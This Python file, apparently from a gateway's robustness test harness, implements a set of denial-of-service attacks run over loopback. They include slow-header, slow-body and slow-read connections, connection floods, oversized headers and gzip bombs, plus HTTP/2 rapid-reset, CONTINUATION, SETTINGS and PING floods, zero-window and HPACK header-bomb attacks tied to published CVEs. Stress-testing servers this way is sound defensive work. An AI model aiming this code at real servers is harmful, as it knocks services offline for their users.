"""What hostile clients do to one port: `python -m experiments.attacks NAME HOST:PORT`.

An attack is what it does with one connection; a cut one is made anew. It runs in a process of its own for so many
seconds and prints one line of JSON: what it did, and what came of it. Everything is over loopback, from 127.0.0.2 and
the addresses after it, and bounded in number, rate and time.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import gzip
import json
import os
import resource
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from harness import http2
from harness.processes import stand_aside

PATH = "/nexus/endpoints/shop/services/RealityService/echo"
LARGE = "/nexus/endpoints/large/services/RealityService/large"
HEAD = f"POST {PATH} HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"

PAUSE = 0.02
"""Seconds after which a connection that was cut is made anew."""
BATCH = 50
"""Frames that are written at a time."""


@dataclass
class Attack:
    """Whom to attack, with how much, until when; and what came of it."""

    host: str
    port: int
    until: float
    size: int
    """Connections at a time."""
    rate: float
    """Frames, or connections, in a second over all."""
    sources: int
    """Addresses that the connections come from."""
    counts: Counter[str] = field(default_factory=Counter)

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"

    def left(self) -> float:
        return max(0.0, self.until - time.monotonic())

    async def over(self) -> None:
        await asyncio.sleep(self.left())

    async def pace(self, share: int = 1) -> None:
        """As long as `share` frames of one connection may take at this rate."""
        await asyncio.sleep(share * self.size / self.rate)

    def answered(self, data: bytes) -> None:
        if data.startswith(b"HTTP/1.1 "):
            self.counts[f"answered {data[9:12].decode()}"] += 1

    async def read(self, reader: asyncio.StreamReader) -> None:
        """Reads until the other side ends it, which it notes."""
        while data := await reader.read(65536):
            self.answered(data)
        raise ConnectionResetError


One = Callable[[Attack, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def beside(attack: Attack, reader: asyncio.StreamReader, writing: Awaitable[None]) -> None:
    """Writes while it reads, until the other side ends it."""
    reading = asyncio.ensure_future(attack.read(reader))
    written = asyncio.ensure_future(writing)
    try:
        done, _ = await asyncio.wait([reading, written], return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
        await reading
    finally:
        reading.cancel()
        written.cancel()
        await asyncio.gather(reading, written, return_exceptions=True)


async def drip(attack: Attack, writer: asyncio.StreamWriter, first: bytes, then: bytes) -> None:
    """Writes `first`, and a byte of `then`, over and over, each second or so."""
    writer.write(first)
    while True:
        for byte in then:
            writer.write(bytes([byte]))
            await writer.drain()
            attack.counts["bytes dripped"] += 1
            await asyncio.sleep(0.5)


async def slow_heads(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A head that never ends, byte by byte."""
    await beside(attack, reader, drip(attack, writer, HEAD.encode(), b"X-Slow: 1\r\n"))


async def slow_bodies(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A body that never ends, byte by byte."""
    await beside(attack, reader, drip(attack, writer, f"{HEAD}Content-Length: 100000\r\n\r\n".encode(), b'"slow '))


async def slow_reads(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Asks for answers of 256 KiB, many on one connection, and reads none."""
    one = f"POST {LARGE} HTTP/1.1\r\nHost: gateway\r\nContent-Length: 2\r\n\r\n{{}}".encode()
    writer.write(one * 20)
    attack.counts["requests"] += 20
    await attack.over()


async def idle(attack: Attack, reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    """A connection without a request."""
    await attack.read(reader)


async def flood(attack: Attack, _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
    """A connection that is closed as soon as it was made."""
    await attack.pace()


async def huge_heads(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A head of up to 10 MiB, in fields of 1000 bytes."""

    async def write() -> None:
        writer.write(HEAD.encode())
        for number in range(10_000):
            writer.write(f"X-Huge-{number}: {'x' * 1000}\r\n".encode())
            attack.counts["kilobytes of heads"] += 1
            if number % BATCH == 0:
                await writer.drain()
                await attack.pace(BATCH)

    await beside(attack, reader, write())


BOMB = gzip.compress(b"\0" * (64 << 20), 9)
"""64 MiB in 64 KiB."""


async def gzip_bombs(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Payloads that are small on the wire and huge where they are unpacked."""
    one = f"{HEAD}Content-Encoding: gzip\r\nContent-Length: {len(BOMB)}\r\n\r\n".encode() + BOMB

    async def write() -> None:
        while True:
            writer.write(one)
            await writer.drain()
            attack.counts["requests"] += 1
            await attack.pace()

    await beside(attack, reader, write())


async def greeted(writer: asyncio.StreamWriter, **settings: int) -> None:
    writer.write(http2.PREFACE + http2.settings(**settings) + http2.acknowledge())
    await writer.drain()


def start_block(attack: Attack, path: str = PATH) -> bytes:
    return http2.block(http2.request(path, attack.authority))


async def frames(attack: Attack, writer: asyncio.StreamWriter, make: Callable[[int], bytes], what: str) -> None:
    """Writes frames in batches: `make` gives those of the nth."""
    number = 0
    while True:
        writer.write(b"".join(make(number + i) for i in range(BATCH)))
        await writer.drain()
        number += BATCH
        attack.counts[what] += BATCH
        await attack.pace(BATCH)


async def rapid_reset(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Requests that are taken back at once (CVE-2023-44487)."""
    block = start_block(attack)

    def one(number: int) -> bytes:
        stream = 2 * number + 1
        head = http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)
        return head + http2.reset(stream)

    await greeted(writer)
    await beside(attack, reader, frames(attack, writer, one, "streams reset"))


async def made_reset(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Requests that make the server reset them, by a window that overflows (CVE-2025-8671)."""
    block = start_block(attack)
    overflow = (1 << 31) - 1

    def one(number: int) -> bytes:
        stream = 2 * number + 1
        head = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
        return head + 2 * http2.frame(http2.WINDOW_UPDATE, stream=stream, payload=overflow.to_bytes(4, "big"))

    await greeted(writer)
    await beside(attack, reader, frames(attack, writer, one, "streams made to be reset"))


async def continuations(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A header block that never ends (CVE-2024-27316)."""
    field = http2.literal("x-flood", "x" * 1000)
    await greeted(writer)
    writer.write(http2.frame(http2.HEADERS, http2.END_STREAM, 1, start_block(attack)))
    await beside(
        attack,
        reader,
        frames(attack, writer, lambda _: http2.frame(http2.CONTINUATION, stream=1, payload=field), "continuations"),
    )


async def empty_continuations(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The same without a byte in them."""
    await greeted(writer)
    writer.write(http2.frame(http2.HEADERS, http2.END_STREAM, 1, start_block(attack)))
    one = http2.frame(http2.CONTINUATION, stream=1)
    await beside(attack, reader, frames(attack, writer, lambda _: one, "continuations"))


async def settings_flood(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """SETTINGS that have to be acknowledged, on a connection of which the answers are not read (CVE-2019-9515)."""
    await greeted(writer)
    await unread(frames(attack, writer, lambda _: http2.settings(window=65535), "settings"), reader)


async def ping_flood(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The same with PING (CVE-2019-9512)."""
    await greeted(writer)
    await unread(frames(attack, writer, lambda _: http2.ping(), "pings"), reader)


async def unread(writing: Awaitable[None], reader: asyncio.StreamReader) -> None:
    """Writes and does not read: the stream's own buffer is all that is taken in."""
    await writing


async def zero_windows(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Requests for 256 KiB each with a window of nothing, so that the answers have to be kept (CVE-2019-9517)."""
    block = start_block(attack, LARGE)
    await greeted(writer, window=0)
    for number in range(100):
        flags = http2.END_HEADERS | http2.END_STREAM
        writer.write(http2.frame(http2.HEADERS, flags, 2 * number + 1, block))
        attack.counts["requests"] += 1
    await attack.read(reader)


async def header_bombs(attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One large field put into the table, and named thousands of times in a block of 16 KiB."""
    first = start_block(attack) + http2.literal("x-bomb", "x" * 3500, indexed=True)
    named = http2.integer(62, 7, 0x80)
    block = start_block(attack) + named * (http2.MAX_FRAME - 500)
    flags = http2.END_HEADERS | http2.END_STREAM
    await greeted(writer)
    writer.write(http2.frame(http2.HEADERS, flags, 1, first))
    await beside(
        attack,
        reader,
        frames(attack, writer, lambda n: http2.frame(http2.HEADERS, flags, 2 * n + 3, block), "bombs of 57 MB"),
    )


ATTACKS: dict[str, One] = {
    "slow-heads": slow_heads,
    "slow-bodies": slow_bodies,
    "slow-reads": slow_reads,
    "idle": idle,
    "flood": flood,
    "huge-heads": huge_heads,
    "gzip-bombs": gzip_bombs,
}
"""Over HTTP/1.1."""

ATTACKS2: dict[str, One] = {
    "rapid-reset": rapid_reset,
    "made-reset": made_reset,
    "continuations": continuations,
    "empty-continuations": empty_continuations,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "zero-windows": zero_windows,
    "header-bombs": header_bombs,
}
"""Over HTTP/2 in the clear."""


async def keep(attack: Attack, one: One, number: int) -> None:
    """One connection after the other."""
    source = (f"127.0.0.{2 + number % attack.sources}", 0)
    while True:
        try:
            reader, writer = await asyncio.open_connection(attack.host, attack.port, local_addr=source)
        except OSError:
            attack.counts["not connected"] += 1
            await asyncio.sleep(10 * PAUSE)
            continue
        attack.counts["connections"] += 1
        try:
            await one(attack, reader, writer)
        except (OSError, asyncio.IncompleteReadError):
            attack.counts["connections cut"] += 1
        finally:
            writer.transport.abort()
        await asyncio.sleep(PAUSE)


async def run(attack: Attack, one: One) -> None:
    """All connections, which are begun over a second, until the attack is over."""
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda *_: None)  # connections that are cut while they are written to
    tasks = []
    for number in range(attack.size):
        tasks.append(asyncio.create_task(keep(attack, one, number)))
        if number % 100 == 99:
            await asyncio.sleep(min(0.02, attack.left()))
    await attack.over()
    for task in tasks:
        task.cancel()
    with contextlib.suppress(Exception):
        await asyncio.gather(*tasks, return_exceptions=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=[*ATTACKS, *ATTACKS2])
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--size", type=int, default=50, help="connections at a time")
    parser.add_argument("--rate", type=float, default=20_000, help="frames, or connections, a second over all")
    parser.add_argument("--sources", type=int, default=1, help="addresses that they come from")
    options = parser.parse_args()
    stand_aside()  # in reality attackers have machines of their own
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    host, _, port = options.address.rpartition(":")
    until = time.monotonic() + options.seconds
    attack = Attack(host, int(port), until, options.size, options.rate, options.sources)
    print("begun", flush=True)
    asyncio.run(run(attack, (ATTACKS | ATTACKS2)[options.name]))
    print(json.dumps(attack.counts), flush=True)


if __name__ == "__main__":
    main()
